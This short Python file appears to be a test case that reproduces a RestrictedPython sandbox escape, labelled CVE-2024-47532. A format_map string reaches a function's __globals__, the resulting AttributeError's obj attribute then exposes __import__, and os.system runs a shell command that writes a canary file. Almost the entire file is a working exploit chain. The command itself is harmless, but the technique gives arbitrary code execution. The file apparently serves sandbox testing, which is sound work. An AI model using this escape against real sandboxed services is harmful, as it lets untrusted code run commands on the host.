# source: RestrictedPython CVE-2024-47532
# effect: process

def local():
    pass


try:
    "{f.__globals__[__builtins__].nothing}".format_map({"f": local})
except AttributeError as error:
    error.obj.__dict__["__import__"]("os").system("echo attribute_errors/obj_through_format_map > /tmp/canary/process")
